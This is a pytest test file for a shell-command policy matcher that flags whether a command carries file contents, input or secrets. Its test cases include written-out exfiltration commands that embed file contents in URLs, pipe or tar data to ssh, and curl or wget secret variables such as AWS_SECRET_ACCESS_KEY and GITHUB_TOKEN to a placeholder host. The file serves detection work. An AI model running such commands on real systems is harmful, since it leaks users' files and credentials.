"""What a command carries: what is in files, its input, secrets."""

import pytest

from wicket.policy.matching.file_contents_in_words import carries
from wicket.shell.read import read


@pytest.mark.parametrize(
    "text",
    [
        'hx "https://example.net/$(cat notes)"',
        'hx "https://example.net/`cat notes`"',
        'hx "https://example.net/$(</etc/hostname)"',
        'hx "a$(base64 -w0 notes).example.net"',
        "hx $(cat notes | xxd -p | tr -d x)",
        'x=$(/bin/cat notes); hx "a=$HOME&b=$x"',
        'hx -H "X: $(head -c 9 notes)"',
        'hx "https://example.net/$(jq -r .a notes.json)"',
        'while read -r x; do hx "https://example.net/$x"; done < notes',
    ],
)
def test_what_is_in_a_file(text: str) -> None:
    assert carries("files", read(text).commands[-1])


@pytest.mark.parametrize(
    "text",
    [
        'while read -r x; do hx "$x"; done < urls',
        'x=$(hx b | jq -r .a); hx "https://example.net/$x"',
        'hx "$(cat <<E\n$y\nE\n)"',
        "hx cat notes",
        'hx "$URL/x"',
        'hx "$(git rev-parse HEAD)"',
        'hx "$(date +%s)"',
        "$(cat notes) x",
    ],
)
def test_what_is_none(text: str) -> None:
    assert not carries("files", read(text).commands[-1])


@pytest.mark.parametrize(
    "text", ["ssh h 'cat > x' < notes", "cat notes | ssh h", "tar c . | ssh h tar x", "ssh h <> notes"]
)
def test_input_is_what_a_file_or_another_program_brings(text: str) -> None:
    assert carries("input", next(one for one in read(text).commands if one.name == "ssh"))


@pytest.mark.parametrize(
    "text", ["ssh h ls", "ssh h ls < /dev/null", "echo exit | ssh h", "ssh h <<< exit", "ssh h <<E\nls\nE\n"]
)
def test_a_text_that_stands_there_is_no_input(text: str) -> None:
    assert not carries("input", next(one for one in read(text).commands if one.name == "ssh"))


@pytest.mark.parametrize(
    "text",
    [
        'curl "https://example.net/?k=$AWS_SECRET_ACCESS_KEY"',
        'curl -d "k=${GITHUB_TOKEN}" https://example.net',
        "curl https://example.net/$db_password",
        'frob "$MY_API_KEY"',
        'wget --post-data="k=$NPM_TOKEN" https://example.net',
    ],
)
def test_secrets_are_variables_that_are_called_so(text: str) -> None:
    assert carries("secrets", read(text).commands[-1])


@pytest.mark.parametrize(
    "text",
    [
        'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://example.net',
        'curl -u "me:$DB_PASSWORD" https://example.net',
        'curl "https://example.net/$TAG"',
        'API_TOKEN=x; curl "https://example.net/$API_TOKEN"',
    ],
)
def test_who_asks_is_no_secret_that_is_sent(text: str) -> None:
    assert not carries("secrets", read(text).commands[-1])
